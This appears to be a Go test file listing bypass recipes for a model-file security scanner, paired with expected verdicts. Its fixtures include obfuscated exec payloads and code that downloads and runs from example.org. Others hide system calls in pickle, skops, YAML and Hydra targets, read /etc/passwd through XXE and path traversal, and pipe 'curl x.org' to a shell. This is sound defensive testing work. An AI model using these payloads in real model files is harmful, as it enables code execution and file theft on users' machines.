package bypass

import (
	"strings"

	"github.com/modelgate/gate/internal/modeltest"
)

// repositories has recipes in the files that lie beside weights, and in rarer formats.
func repositories() []Recipe {
	var out []Recipe
	add := func(technique, name, path string, want Verdict, data string) {
		out = append(out, one(technique, name, path, []byte(data), want))
	}
	add("remote code", "auto_map", "config.json", Warned, `{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}`)
	add("remote code", "auto_map of another repository", "config.json", Warned, `{"auto_map": {"AutoModel": "other/repo--modeling_x.X"}}`)
	add("remote code", "custom_pipelines", "config.json", Warned, `{"model_type": "x", "custom_pipelines": {"p": {"impl": "p.P"}}}`)
	add("remote code", "tokenizer", "tokenizer_config.json", Warned, `{"auto_map": {"AutoTokenizer": ["tok.T", null]}}`)
	add("remote code", "module of a pipeline", "model_index.json", Warned, `{"_class_name": "P", "unet": ["my_unet", "U"]}`)
	add("remote code", "attention of a repository (4372)", "config.json", Warned, `{"model_type": "x", "_attn_implementation": "org/kernel"}`)
	add("remote code", "attention inside (4372)", "config.json", Warned, `{"model_type": "x", "text_config": {"attn_implementation": "org/kernel"}}`)
	add("remote code", "experts of a repository", "config.json", Warned, `{"model_type": "x", "experts_implementation": "org/kernel"}`)
	add("remote code", "trust inside (5241)", "config.json", Warned, `{"model_type": "x", "vision_config": {"trust_remote_code": true}}`)
	add("remote code", "duplicate key", "config.json", Warned, `{"model_type": "x", "auto_map": {"AutoModel": "a.B"}, "auto_map": {}}`)
	add("remote code", "sentence-transformers modules", "modules.json", Warned, `[{"idx": 0, "name": "0", "path": "", "type": "evil_module.Transformer"}]`)
	add("shipped Python", "at import time", "modeling_evil.py", Denied, evilPython)
	add("shipped Python", "decoded", "modeling_evil.py", Denied, "import base64\nexec(base64.b64decode('cGFzcw=='))\n")
	add("shipped Python", "by getattr", "modeling_evil.py", Denied, "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n")
	add("shipped Python", "in a class body", "modeling_evil.py", Denied, "class A:\n    import os\n    os.system('true')\n")
	add("shipped Python", "downloads and runs", "modeling_evil.py", Denied, "import urllib.request\nexec(urllib.request.urlopen('http://example.org/x').read())\n")
	add("shipped Python", "ctypes", "modeling_evil.py", Denied, "import ctypes\nctypes.CDLL('./x.so')\n")
	add("shipped Python", "unpickles", "modeling_evil.py", Denied, "import pickle\nobj = pickle.loads(bytes.fromhex('80024e2e'))\n")
	add("shipped Python", "subprocess under another name", "modeling_evil.py", Denied, "from subprocess import run as forward\nforward(['true'])\n")
	add("index", "dots", "model.safetensors.index.json", Denied, `{"metadata": {}, "weight_map": {"w": "../../other.safetensors"}}`)
	add("index", "absolute", "pytorch_model.bin.index.json", Denied, `{"metadata": {}, "weight_map": {"w": "/etc/passwd"}}`)
	add("index", "folder", "model.safetensors.index.json", Warned, `{"metadata": {}, "weight_map": {"w": "sub/other.safetensors"}}`)
	add("MLflow", "pickle flavour", "MLmodel", Warned, "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    python_version: 3.11\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n")
	add("MLflow", "loader module", "MLmodel", Warned, "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n")
	add("MLflow", "conda from a URL", "conda.yaml", Warned, "dependencies:\n- pip:\n  - git+https://example.org/evil.git\n")
	add("MLflow", "requirements with an index", "requirements.txt", Warned, "--extra-index-url http://example.org/simple\nevil\n")
	add("MLflow", "python_model", "python_model.pkl", Denied, evil4)
	nemo := func(config string) string {
		return string(modeltest.Tar(modeltest.Entry{Name: "./model_config.yaml", Data: []byte(config)}, modeltest.Entry{Name: "./model_weights.ckpt", Data: checkpoint()}))
	}
	add("NeMo and Hydra", "target", "m.nemo", Denied, nemo("_target_: os.system\ncommand: true\n"))
	add("NeMo and Hydra", "nested target", "m.nemo", Denied, nemo("model:\n  layers:\n  - _target_: subprocess.Popen\n    args: true\n"))
	add("NeMo and Hydra", "target with escapes", "m.nemo", Denied, nemo("\"_targe\\x74_\": os.system\n"))
	add("NeMo and Hydra", "unknown target", "m.nemo", Warned, nemo("_target_: acme.models.Magic\n"))
	add("NeMo and Hydra", "pickle as weights", "m.nemo", Denied, string(modeltest.Tar(modeltest.Entry{Name: "model_config.yaml", Data: []byte("a: 1\n")}, modeltest.Entry{Name: "model_weights.ckpt", Data: []byte(evil2)})))
	add("NeMo and Hydra", "YAML alone", "config.yaml", Denied, "model:\n  _target_: builtins.eval\n  _args_: ['1']\n")
	add("NeMo and Hydra", "partial", "config.yaml", Denied, "opt:\n  _target_: os.system\n  _partial_: true\n")
	for _, n := range [][3]string{
		{"os", "system", "FunctionNode"}, {"operator", "attrgetter", "OperatorFuncNode"}, {"os", "system", "MethodNode"}, {"subprocess", "Popen", "ObjectNode"},
		{"builtins", "eval", "TypeNode"}, {"posix", "system", "ConstructorFromReduceNode"},
	} {
		add("skops", n[2]+" "+n[0]+"."+n[1], "m.skops", Denied, string(modeltest.Skops(n[0], n[1], n[2])))
	}
	add("skops", "PartialNode of a function", "m.skops", Denied, zipOf(member{name: "schema.json", data: `{"__class__":"partial","__module__":"functools","__loader__":"PartialNode","protocol":2,"content":{"func":{"__class__":"system","__module__":"os","__loader__":"FunctionNode","content":"os.system"},"args":{},"kwds":{},"namespace":null}}`}))
	add("skops", "pickle inside", "m.skops", Denied, zipOf(member{name: "schema.json", data: `{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{},"protocol":2}`}, member{name: "1.pkl", data: evil2}))
	add("skops", "no archive (54886)", "m.skops", Denied, evil2)
	add("native", "library", "lib.so", Denied, elf)
	add("native", "renamed library", "weights.bin", Denied, elf)
	add("native", "PE as a checkpoint", "model.pt", Denied, "MZ\x90\x00"+strings.Repeat("\x00", 56)+"\x40\x00\x00\x00PE\x00\x00"+strings.Repeat("\x00", 100))
	add("native", "Mach-O", "model.dylib", Denied, "\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x06\x00\x00\x00"+strings.Repeat("\x00", 100))
	add("native", "byte code", "model.pyc", Denied, "\xa7\x0d\x0d\x0a"+strings.Repeat("\x00", 12)+"\xe3"+strings.Repeat("\x00", 40))
	add("site path and YAML", "import line", "evil.pth", Denied, "import os; os.system('true')\n")
	add("site path and YAML", "import behind paths", "evil.pth", Denied, "/usr/lib\nimport sys\n")
	add("site path and YAML", "Python tag", "config.yaml", Denied, "a: !!python/object/apply:os.system ['true']\n")
	add("site path and YAML", "Python tag in full", "config.yaml", Denied, "a: !<tag:yaml.org,2002:python/object/new:os.system> ['true']\n")
	add("XML", "document type", "model.xml", Denied, "<?xml version=\"1.0\"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<net name=\"a\" version=\"11\"><layers>&x;</layers></net>\n")
	add("XML", "entity in PMML", "model.pmml", Denied, "<!DOCTYPE PMML [<!ENTITY % x SYSTEM \"http://example.org/x.dtd\"> %x;]>\n<PMML version=\"4.4\"></PMML>\n")
	add("XML", "custom layer library", "model.xml", Warned, "<net name=\"a\" version=\"11\"><layers><layer id=\"0\" name=\"x\" type=\"CustomMagic\" version=\"extension\"/></layers></net>\n")
	out = append(out, rare()...)
	return out
}

// rare has recipes in formats that are seldom seen.
func rare() []Recipe {
	var out []Recipe
	add := func(technique, name, path string, want Verdict, data string) {
		out = append(out, one(technique, name, path, []byte(data), want))
	}
	name := func(s string) string {
		return "\x00\x00\x00\x01\x00\x04\x00\x09" + "\x00\x00\x00" + string([]byte{byte(len(s))}) + s
	}
	value := "\x00\x00\x00\x10\x00\x00\x00\x01" + "\x00\x04\x00\x09\x00\x00\x00\x04true"
	callTo := func(f string) string {
		return "\x00\x00\x00\x06" + name(f) + "\x00\x00\x00\x02" + value + "\x00\x00\x00\xfe"
	}
	promise := "\x00\x00\x04\x05\x00\x00\x00\xfd\x00\x00\x00\xfc" + callTo("system")
	add("R", "promise", "m.rds", Denied, string(modeltest.RDS(promise)))
	add("R", "promise, compressed", "m.rds", Denied, gzipped(string(modeltest.RDS(promise))))
	add("R", "call alone", "m.rds", Warned, string(modeltest.RDS(callTo("system"))))
	add("R", "plain", "m.rds", Clean, string(modeltest.RDS(value)))
	le := func(n int) string { return long(uint64(n))[:4] }
	add("Torch7", "Lua function", "m.t7", Warned, le(8)+le(1)+le(20)+strings.Repeat("\x1bLJ\x02", 5)+le(1))
	add("Torch7", "text of a command", "m.t7", Warned, le(2)+le(28)+"os.execute('curl x.org | sh')")
	add("UBJSON", "length of a text", "m.ubj", Warned, "{L\x7f\xff\xff\xff\xff\xff\xff\xff")
	add("UBJSON", "nested", "m.ubj", Warned, "{U\x07learner"+strings.Repeat("[", 2000))
	add("Flax", "unknown extension", "m.msgpack", Warned, "\x81\xa1w\xd4\x2a\x01")
	add("Flax", "length of an array", "m.msgpack", Warned, "\x81\xa1w\xdd\xff\xff\xff\xff")
	add("MXNet", "custom operator", "m-symbol.json", Warned, `{"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "evil"}, "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]]}`)
	add("CoreML", "custom layer", "m.mlmodel", Warned, string(varint(1, 4))+string(message(500, message(1, bytesOf(1, "x"), message(500, bytesOf(10, "EvilLayer"))))))
	add("no model", "empty", "m.pt", Warned, "")
	add("no model", "image", "m.pt", Warned, "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"+strings.Repeat("\x00", 40))
	add("no model", "page", "m.safetensors", Warned, "<!DOCTYPE html><html><body>Not found</body></html>")
	add("no model", "text", "m.pkl", Warned, "this is a file of text, and no model at all\n")
	add("no model", "noise", "m.pkl", Warned, strings.Repeat("\xf1\x00\x9c\xe7", 200))
	add("no model", "text as GGUF", "m.gguf", Warned, "this is a file of text\n")
	out = append(out, pickles("code and user classes", Warned,
		[2]string{"cloudpickle", proto(4, call("cloudpickle.cloudpickle", "_make_empty_cell"))},
		[2]string{"class of __main__", proto(2, global("__main__", "Model"), ")\x81}"+str("a"), "K\x01sb")},
		[2]string{"class of a package", proto(2, global("acme.models", "Ranker"), ")\x81}"+str("a"), "K\x01sb")},
		[2]string{"function of __main__", proto(2, global("__main__", "score"))},
	)...)
	out = append(out, pickles("code and user classes", Denied,
		[2]string{"name of a builtin in __main__", proto(2, call("__main__", "eval", str("1")))},
		[2]string{"code object", proto(3, call("types", "CodeType", "K\x00"))},
	)...)
	return out
}
